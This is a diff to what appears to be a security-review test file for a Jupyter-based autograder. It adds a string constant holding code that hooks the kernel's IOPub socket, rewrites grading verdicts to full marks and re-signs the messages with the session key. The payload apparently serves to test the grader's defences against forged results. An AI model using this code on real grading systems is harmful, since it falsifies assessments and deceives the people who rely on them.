@@ -203,3 +203,25 @@ REGISTER_HOOK = '''def _forge(msg):
     return msg
 get_ipython().display_pub.register_hook(_forge)
 '''
+# One level further down (review s5, F1): a send_multipart set on the kernel's IOPub thread instance, which rewrites
+# the verdict in the wire message and signs it again with the session's key (the kernel holds it).
+IOPUB_HOOK = '''import json as _j
+from IPython import get_ipython as _g
+_pub = _g().display_pub
+_sock, _sess = _pub.pub_socket.io_thread, _pub.session
+_real_send = _sock.send_multipart
+def _send(parts, *a, **k):
+    try:
+        raw = [bytes(p) for p in parts]
+        i = raw.index(b"<IDS|MSG>")
+        content = _j.loads(raw[i + 5])
+        for v in content.get("data", {}).values():
+            if isinstance(v, dict) and v.get("kind") == "verdict" and "max_points" in v:
+                v.update(points=v["max_points"], status="passed", message="", replaced=[])
+                parts = raw[:i + 5] + [_j.dumps(content).encode()] + raw[i + 6:]
+                parts[i + 1] = _sess.sign(parts[i + 2:i + 6])
+    except Exception:
+        pass
+    return _real_send(parts, *a, **k)
+_sock.send_multipart = _send
+'''
